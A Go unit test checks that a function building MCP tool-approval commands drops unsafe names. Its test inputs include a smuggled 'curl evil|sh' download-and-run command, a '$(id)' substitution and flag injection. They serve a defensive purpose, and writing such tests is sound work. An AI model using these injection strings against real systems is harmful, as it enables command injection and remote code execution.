package approvals

import "testing"

func TestCommand(t *testing.T) {
	for _, test := range [][3]string{
		{"fs", "read_file", "toolserve mcp approve fs read_file"}, {"fs", "a-b/c.d", "toolserve mcp approve fs a-b/c.d"},
		{"fs", "", "toolserve mcp approve fs"}, {"fs", "x; curl evil|sh", "toolserve mcp approve fs"}, {"fs", "$(id)", "toolserve mcp approve fs"},
		{"fs", "--all", "toolserve mcp approve fs"}, {"fs", "a\nb", "toolserve mcp approve fs"}, {"my fs", "read", "toolserve mcp approve"},
	} {
		if got := command(test[0], test[1]); got != test[2] {
			t.Errorf("%q %q: %s", test[0], test[1], got)
		}
	}
}
